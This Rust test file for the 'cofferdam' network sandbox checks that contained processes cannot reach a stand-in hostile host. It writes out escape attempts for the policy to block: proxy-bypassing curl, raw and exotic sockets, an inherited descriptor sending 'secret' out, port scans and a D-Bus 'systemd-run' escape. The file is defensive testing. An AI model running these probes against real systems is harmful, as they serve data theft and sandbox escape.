//! S27, S28, S32, S34 to S37, S45, K01: whoever opens a socket by himself, or finds one, reaches
//! nobody but whom the policy names.

use crate::asking::{GATEWAY, POLICY};
use crate::internet::{EVIL, EVIL_6, Internet};
use crate::support::{is_root, programs};

#[test]
fn s27_without_proxy_variables_there_is_no_other_way() {
    let Some(net) = Internet::take() else { return };
    let script = format!(
        "env -u HTTPS_PROXY -u https_proxy -u ALL_PROXY -u all_proxy NO_PROXY='*' no_proxy='*' \
         curl -sS --noproxy '*' --max-time 8 https://{EVIL}/"
    );
    net.outside(&["sh", "-c", &script]).works("without a wall");
    assert!(net.evil() > 0);
    net.forget();
    let ran = net.inside(POLICY, &["sh", "-c", &script]);
    ran.fails(&["alert", "reset", "SSL", "Failed to connect"], "judged");
    assert_eq!(net.seen().packets, []);
    assert_eq!(net.connections(EVIL), ["direct 443 denied host-not-allowed 1"], "on record");
    net.inside(POLICY, &["curl", "-sS", "--noproxy", "*", "https://good.test/"]).works("twin");
}

/// What a socket can be, and an exchange that EVIL answers.
const SOCKETS: &[(&str, &str)] = &[
    (
        "TCP on 443",
        "s = socket.create_connection((A, 443), 5); s.sendall(b'x'); s.settimeout(5); s.shutdown(1); assert s.recv(1) == b''",
    ),
    (
        "TCP on 80",
        "s = socket.create_connection((A, 80), 5); s.settimeout(5); s.sendall(b'GET / HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n'); assert b'200' in s.recv(99)",
    ),
    (
        "TCP on 5432",
        "s = socket.create_connection((A, 5432), 5); s.settimeout(5); s.sendall(b'x'); assert s.recv(1) == b'x'",
    ),
    (
        "UDP on 5000",
        "s = socket.socket(F, 2); s.settimeout(.3); s.sendto(b'x', (A, 5000)); assert s.recv(9) == b'x'",
    ),
    (
        "UDP on 443",
        "s = socket.socket(F, 2); s.settimeout(.3); s.sendto(b'x', (A, 443)); assert s.recv(9) == b'x'",
    ),
    (
        "ping",
        "s = socket.socket(F, 2, 1 if F == 2 else 58); s.settimeout(.3); s.sendto((b'\\x08' if F == 2 else b'\\x80') + b'\\0\\0\\0\\0\\0\\0\\0tunnel', (A, 0)); assert b'tunnel' in s.recv(99)",
    ),
];

/// The same for who may: outside, root.
const RAW: &[(&str, &str)] = &[
    ("raw", "s = socket.socket(F, 3, 253); s.sendto(b'x', (A, 0))"),
    (
        "packet",
        "s = socket.socket(17, 2, 0); [s.sendto(b'x' * 60, (n, 0x0800)) for _, n in socket.if_nameindex() if n != 'lo'][0]",
    ),
];

fn each(net: &Internet, family: u8, address: &str) {
    let raw = if is_root() { RAW } else { &[] };
    for (why, act) in SOCKETS.iter().chain(raw) {
        net.forget();
        let act = format!("import socket\nF, A = {family}, '{address}'\n{act}");
        net.python_outside(&act).works(why);
        assert!(!net.seen().packets.is_empty(), "{why}: the control leaves HOST");
        net.forget();
        if *why == "TCP on 443" {
            // Accepted by the gateway, to be judged, and closed: as EVIL itself does with such bytes.
            let ran = net.python_inside(POLICY, &act);
            assert!(matches!(ran.status, Some(0 | 1)), "{why}: {ran:?}");
        } else {
            let ran = net.python_inside(POLICY, &act);
            assert_eq!(ran.status, Some(1), "{why}: should fail inside: {ran:?}");
        }
        assert_eq!((net.seen().packets, net.seen_by_host().packets), (vec![], vec![]), "{why}");
    }
}

#[test]
fn s28_s32_no_kind_of_socket_leaves() {
    let Some(net) = Internet::take() else { return };
    each(&net, 2, EVIL);
}

/// Kinds that have no server here: family, type, protocol. What the kernel of this machine does not
/// make is no way out either.
const OTHER_KINDS: &[(&str, &str)] = &[
    ("UDP-Lite", "2, 2, 136"),
    ("UDP-Lite of IPv6", "10, 2, 136"),
    ("SCTP", "2, 1, 132"),
    ("SCTP, a packet each", "2, 5, 132"),
    ("MPTCP", "2, 1, 262"),
    ("DCCP", "2, 6, 33"),
    ("SMC", "43, 1, 0"),
    ("RDS", "21, 5, 0"),
    ("TIPC", "30, 2, 0"),
    ("XDP", "44, 3, 0"),
    ("VSOCK", "40, 1, 0"),
    ("AF_ALG", "38, 5, 0"),
    ("raw", "2, 3, 255"),
    ("raw of IPv6", "10, 3, 255"),
    ("packet", "17, 3, 768"),
];

#[test]
fn s28_no_other_kind_of_socket_leaves() {
    let Some(net) = Internet::take() else { return };
    let mut controls = 0;
    for (why, kind) in OTHER_KINDS {
        let at = if kind.starts_with("10,") { EVIL_6 } else { EVIL };
        let act = format!(
            "import socket\ns = socket.socket({kind}); s.settimeout(.3)\ns.connect(('{at}', 6379)); s.send(b'tunnel')"
        );
        net.python_outside(&act);
        controls += usize::from(net.hits(at) > 0);
        net.forget();
        let ran = net.python_inside(POLICY, &act);
        // As a datagram it may be sent to where nobody is.
        assert!(ran.status == Some(1) || why.starts_with("UDP"), "{why}: {ran:?}");
        assert_eq!((net.seen().packets, net.seen_by_host().packets), (vec![], vec![]), "{why}");
    }
    assert!(controls >= 2, "some of them leave where there is no wall: {controls}");
}

#[test]
fn s35_nor_by_ipv6() {
    let Some(net) = Internet::take() else { return };
    each(&net, 10, EVIL_6);
}

#[test]
fn s45_the_proxys_port_elsewhere_is_not_the_proxy() {
    let Some(net) = Internet::take() else { return };
    for port in [3128, 1080] {
        net.forget();
        let act = format!("import socket\nsocket.create_connection(('{EVIL}', {port}), 5)");
        net.python_outside(&act).works("without a wall");
        assert_eq!(net.hits(EVIL), 1);
        net.forget();
        net.python_inside(POLICY, &act).fails(&["ECONNREFUSED"], "nobody listens there");
        assert_eq!(net.seen().packets, []);
    }
    let act = "import socket\nsocket.create_connection(('198.18.0.1', 3128), 5)";
    net.python_inside(POLICY, act).works("the proxy itself");
}

/// S34: a connection that the caller has open is not inside, whatever its number.
#[test]
fn s34_no_open_socket_comes_along() {
    let Some(net) = Internet::take() else { return };
    let policy = net.place.write("policy.toml", POLICY).display().to_string();
    let engine = programs().join("cofferdam").display().to_string();
    let with = |command: &str| {
        format!(
            "import os, socket\n\
             s = socket.create_connection(('{EVIL}', 5432), 5)\n\
             os.dup2(s.fileno(), 9)\n\
             l = socket.create_server(('127.0.0.1', 0))\n\
             os.dup2(l.fileno(), 10)\n\
             os.execvp('{command}'.split()[0], '{command}'.split() + ['sh', '-c', 'ls /proc/self/fd; echo secret >&9'])"
        )
    };
    let ran = net.python_outside(&with("env")).works("without a wall");
    assert!(ran.out.contains("\n9\n"), "{ran:?}");
    let heard = |net: &Internet| -> u64 {
        net.settled().connections_to(EVIL, 5432).iter().map(|one| one.received).sum()
    };
    assert_eq!(heard(&net), 7);
    net.forget();
    let ran = net.python_outside(&with(&format!("{engine} run --quiet --policy {policy} --")));
    assert_eq!(ran.out, "0\n1\n2\n3\n", "3 is the directory itself: {ran:?}");
    let ran = ran.fails(&["9: Bad file descriptor"], "there is no 9");
    assert_eq!((heard(&net), ran.err.contains("secret")), (0, false));
}

/// S36: the network of the sandbox stays as it was made, and is judged after each attempt.
#[test]
fn s36_addresses_and_routes_stay() {
    let Some(net) = Internet::take() else { return };
    for act in [
        "ip addr add 203.0.113.7/32 dev lo",
        "ip link set lo down",
        "ip link add x type veth peer name y",
        "ip route flush table local; ip route add local 203.0.113.0/24 dev lo table local",
        "ip rule add from 203.0.113.0/24 table 5",
    ] {
        let script = format!("set -e; {act}");
        // With the power that namespaces of one's own give; a place for their names is private.
        let alone = format!("mount -t tmpfs none /run; ip link set lo up; {script}");
        net.outside(&["unshare", "-rnm", "sh", "-c", &alone]).works(act);
        let ran = net.inside(POLICY, &["sh", "-c", &script]);
        let why = ["Operation not permitted", "Permission denied", "Cannot", "not supported"];
        ran.fails(&why, act);
    }
    net.forget();
    let act = "(ip addr add 203.0.113.7/32 dev lo; ip link set lo down) 2>/dev/null; \
         curl -sS --max-time 5 https://good.test/ && ! curl -sS --noproxy '*' --max-time 5 http://203.0.114.66/ --fail";
    net.inside(POLICY, &["sh", "-c", act]).works("judged as before");
    assert_eq!((net.hits(EVIL), net.settled().requests.len()), (0, 1));
}

/// S37: nothing of cofferdam's is there to talk to but the doors of the gateway.
#[test]
fn s37_no_control_plane_is_in_reach() {
    let Some(net) = Internet::take() else { return };
    let act = format!(
        "import os, socket\n\
         open_ports = []\n\
         for port in range(1, 65536):\n\
         \x20   s = socket.socket()\n\
         \x20   if s.connect_ex(('{GATEWAY}', port)) == 0 and s.getsockname() != s.getpeername(): open_ports.append(port)\n\
         \x20   s.close()\n\
         assert open_ports == [53, 80, 443, 1080, 3128], open_ports\n\
         kinds = [os.readlink(f'/proc/self/fd/{{n}}') for n in os.listdir('/proc/self/fd') if os.path.exists(f'/proc/self/fd/{{n}}')]\n\
         assert not [k for k in kinds if k.startswith('socket:')], kinds\n\
         named = [l for l in open('/proc/net/unix').read().splitlines()[1:] if len(l.split()) > 7]\n\
         assert named == [], named"
    );
    net.python_inside(POLICY, &act).works("five doors, no socket");
    // The same walk finds what is there: a server of HOST's, and named sockets.
    let seen = "import socket\n\
         s = socket.socket(socket.AF_UNIX); s.bind('\\0cofferdam-rows'); s.listen()\n\
         assert 'cofferdam-rows' in open('/proc/net/unix').read()\n\
         assert socket.socket().connect_ex(('127.0.0.1', 8000)) == 0";
    net.python_outside(seen).works("without a wall");
}

/// K01: a bus that starts programs outside is not there, by path or by abstract name.
#[test]
fn k01_no_bus_answers() {
    let Some(net) = Internet::take() else { return };
    let bus = net.place.out.join("bus").display().to_string();
    let serve = format!(
        "import os, socket, threading, time\n\
         for name in ('{bus}', '\\0cofferdam-rows-bus'):\n\
         \x20   s = socket.socket(socket.AF_UNIX); s.bind(name); s.listen()\n\
         \x20   threading.Thread(target=lambda s=s: [s.accept()[0].sendall(b'OK') for _ in range(9)], daemon=True).start()\n\
         print('ready', flush=True); time.sleep(9)"
    );
    let mut command = net.command("/usr/bin/python3");
    command.args(["-c", &serve]).stdout(std::process::Stdio::piped());
    let mut server = command.spawn().unwrap();
    crate::asking::line(&mut server);
    for name in [bus.as_str(), "\\0cofferdam-rows-bus"] {
        let act = format!(
            "import socket\ns = socket.socket(socket.AF_UNIX); s.connect('{name}'); assert s.recv(2) == b'OK'"
        );
        net.python_outside(&act).works(name);
        net.python_inside(POLICY, &act).fails(&["ENOENT", "ECONNREFUSED", "EPERM", "EACCES"], name);
    }
    let call = format!(
        "DBUS_SESSION_BUS_ADDRESS=unix:path={bus} systemd-run --user true || dbus-send --address=unix:path={bus} /a a.b"
    );
    let ran = net.inside(POLICY, &["sh", "-c", &call]);
    assert!(!matches!(ran.status, Some(0) | None), "nobody starts anything: {ran:?}");
    server.kill().and_then(|()| server.wait()).unwrap();
    // The twin: sockets by path within the workspace.
    let own = "import socket\na = socket.socket(socket.AF_UNIX); a.bind('own.sock'); a.listen()\n\
         b = socket.socket(socket.AF_UNIX); b.connect('own.sock')";
    net.python_inside(POLICY, own).works("one's own");
}

/// S38: who else is on this host finds no proxy: none of its sockets is in the host's namespace.
#[test]
fn s38_the_host_has_no_new_listener() {
    let Some(net) = Internet::take() else { return };
    let listeners = "cat /proc/net/tcp /proc/net/tcp6 | awk '$4 == \"0A\" { print $2 }' | sort";
    let before = net.outside(&["sh", "-c", listeners]).works("before").out;
    let policy = net.place.write("policy.toml", POLICY).display().to_string();
    for (options, more) in [(&[][..], 0), (&["--publish", "8123:18123"][..], 1)] {
        let mut command = net.cofferdam(&[&["--policy", &policy], options].concat());
        command.args(["sh", "-c", "echo ready; read end; true"]);
        command.stdin(std::process::Stdio::piped()).stdout(std::process::Stdio::piped());
        let mut engine = command.spawn().unwrap();
        assert_eq!(crate::asking::line(&mut engine), "ready\n");
        let during = net.outside(&["sh", "-c", listeners]).works("during").out;
        assert_eq!(during.lines().count(), before.lines().count() + more, "{options:?}: {during}");
        let proxy = "import socket\nsocket.create_connection(('127.0.0.1', 3128), 3)";
        net.python_outside(proxy).fails(&["ECONNREFUSED"], "no proxy on the host's loopback");
        drop(engine.stdin.take());
        assert!(engine.wait().unwrap().success());
    }
    let proxy = format!("import socket\nsocket.create_connection(('{GATEWAY}', 3128), 3)");
    net.python_inside(POLICY, &proxy).works("inside it is there");
}
